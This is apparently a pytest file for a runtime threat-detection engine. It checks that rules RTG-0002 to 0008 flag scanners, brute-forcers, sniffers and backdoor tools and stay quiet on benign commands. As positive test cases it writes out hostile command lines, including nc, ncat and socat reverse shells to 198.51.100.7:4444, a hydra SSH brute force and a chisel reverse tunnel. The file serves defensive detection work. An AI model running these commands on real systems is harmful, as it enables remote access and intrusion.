"""Scenario tests for RTG-0002..0008 Execution:Runtime/SuspiciousTool, positive and negative."""

from __future__ import annotations

import pytest

from rtguard.detect import build_engine
from rtguard.model.events import Event
from rtguard.model.findings import FINDING_TYPES_BY_NAME, Detection
from rtguard.testing.events import exec_event

TOOL = "Execution:Runtime/SuspiciousTool"
ENGINE, _ = build_engine()
HIGH, LOW = 8.0, 2.0


def tool_detections(event: Event) -> list[Detection]:
    return [d for d in ENGINE.evaluate(event) if d.finding_type == TOOL]


def effective_severity(d: Detection) -> float:
    return d.severity if d.severity is not None else FINDING_TYPES_BY_NAME[d.finding_type].severity


@pytest.mark.parametrize(
    ("name", "argv", "rule_id", "category", "severity"),
    [
        ("masscan", ["masscan", "-p1-65535", "10.0.0.0/8"], "RTG-0002", "Network Scanner", HIGH),
        ("zmap", ["zmap", "-p", "80"], "RTG-0002", "Network Scanner", HIGH),
        ("nmap", ["nmap", "-sS", "10.0.0.0/24"], "RTG-0003", "Network Scanner", LOW),
        (
            "hydra",
            ["hydra", "-l", "root", "-P", "rockyou.txt", "ssh://10.0.0.9"],
            "RTG-0004",
            "Pentest Tool",
            HIGH,
        ),
        ("sqlmap", ["sqlmap", "-u", "http://app/?id=1"], "RTG-0004", "Pentest Tool", HIGH),
        ("linpeas.sh", ["./linpeas.sh"], "RTG-0004", "Pentest Tool", HIGH),
        ("john", ["john", "hashes.txt"], "RTG-0004", "Pentest Tool", HIGH),
        ("chisel", ["chisel", "client", "198.51.100.7:8000", "R:socks"], "RTG-0005", "Backdoor Tool", HIGH),
        ("bettercap", ["bettercap", "-iface", "eth0"], "RTG-0006", "Network Sniffer", HIGH),
        ("tcpdump", ["tcpdump", "-i", "eth0", "-w", "/tmp/c.pcap"], "RTG-0007", "Network Sniffer", LOW),
        ("tshark", ["tshark", "-i", "any"], "RTG-0007", "Network Sniffer", LOW),
        ("nc", ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"], "RTG-0008", "Backdoor Tool", LOW),
        ("nc", ["nc", "198.51.100.7", "4444", "-e/bin/bash"], "RTG-0008", "Backdoor Tool", LOW),
        ("ncat", ["ncat", "--sh-exec", "/bin/sh", "198.51.100.7", "4444"], "RTG-0008", "Backdoor Tool", LOW),
        (
            "socat",
            ["socat", "TCP:198.51.100.7:4444", "EXEC:/bin/bash,pty,stderr"],
            "RTG-0008",
            "Backdoor Tool",
            LOW,
        ),
        ("socat", ["socat", "tcp-listen:4444", "system:sh"], "RTG-0008", "Backdoor Tool", LOW),
    ],
)
def test_tools_are_detected_with_name_category_and_severity(
    name: str, argv: list[str], rule_id: str, category: str, severity: float
) -> None:
    (d,) = tool_detections(exec_event(name, argv=argv, exe_path=f"/usr/bin/{name}"))
    assert d.rule_id == rule_id
    assert d.context == {"toolName": name, "toolCategory": category}
    assert effective_severity(d) == severity
    assert d.artifact == f"/usr/bin/{name}"


@pytest.mark.parametrize(
    ("name", "argv"),
    [
        ("nc", ["nc", "-z", "db", "5432"]),
        ("nc", ["nc", "-l", "8080"]),
        ("ncat", ["ncat", "198.51.100.7", "443"]),
        ("socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:app:80"]),
        ("curl", ["curl", "-s", "http://localhost:8080/health"]),
        ("python3", ["python3", "-m", "http.server"]),
        ("sh", ["sh", "-c", "command -v nmap"]),
        ("nmap-helper", ["nmap-helper"]),
        ("bash", ["bash", "/opt/scripts/hydra-backup.sh"]),
    ],
)
def test_benign_commands_do_not_fire(name: str, argv: list[str]) -> None:
    assert tool_detections(exec_event(name, argv=argv)) == []


@pytest.mark.parametrize(
    ("name", "argv", "exe_path", "filename", "tool"),
    [
        ("dash", ["/bin/sh", "./linpeas.sh"], "/usr/bin/dash", "./linpeas.sh", "linpeas.sh"),
        ("busybox", ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"], "/bin/busybox", "/usr/bin/nc", "nc"),
        (
            "nc.openbsd",
            ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"],
            "/usr/bin/nc.openbsd",
            "/usr/bin/nc",
            "nc",
        ),
        ("nmap", ["nmap", "-sn", "10.0.0.0/24"], "/usr/bin/nmap", "/usr/bin/nmap", "nmap"),
    ],
)
def test_tools_are_found_by_any_of_their_names(
    name: str, argv: list[str], exe_path: str, filename: str, tool: str
) -> None:
    (d,) = tool_detections(exec_event(name, argv=argv, exe_path=exe_path, filename=filename))
    assert d.context["toolName"] == tool
